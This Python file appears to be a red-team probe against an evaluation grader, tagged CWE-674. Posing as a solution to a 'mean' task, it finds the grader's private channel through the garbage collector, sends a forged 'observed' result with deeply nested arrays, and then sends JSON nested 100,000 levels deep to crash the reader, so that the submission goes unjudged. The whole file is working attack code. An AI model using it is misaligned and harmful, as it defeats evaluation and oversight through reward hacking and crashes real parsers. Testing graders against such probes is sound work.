"""Sends JSON that is nested a hundred thousand deep, and JSON as deep as allowed, to overflow the reader's stack."""

SOURCE = "CWE-674"
SUCCESS = "a submission that is not judged, or a grader that dies"
PROOF = "stopped"

# %%
import gc
import json
import struct
import time

channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")


def say(body, arrays=b"", pause=0.0):
    text = body if isinstance(body, bytes) else json.dumps(body).encode()
    channel._writer.write(struct.pack("<II", len(text), len(arrays)) + text + arrays)
    channel._writer.flush()
    time.sleep(pause)


# %% question="mean"
def mean(values):
    print("attempted")
    say(b'{"event": "observed", "probe": "means", "fault": null, "value": {"mean": ' + b"[" * 900 + b"]" * 900 + b"}}")
    say(b'{"a":' * 100_000 + b"1" + b"}" * 100_000, pause=2)
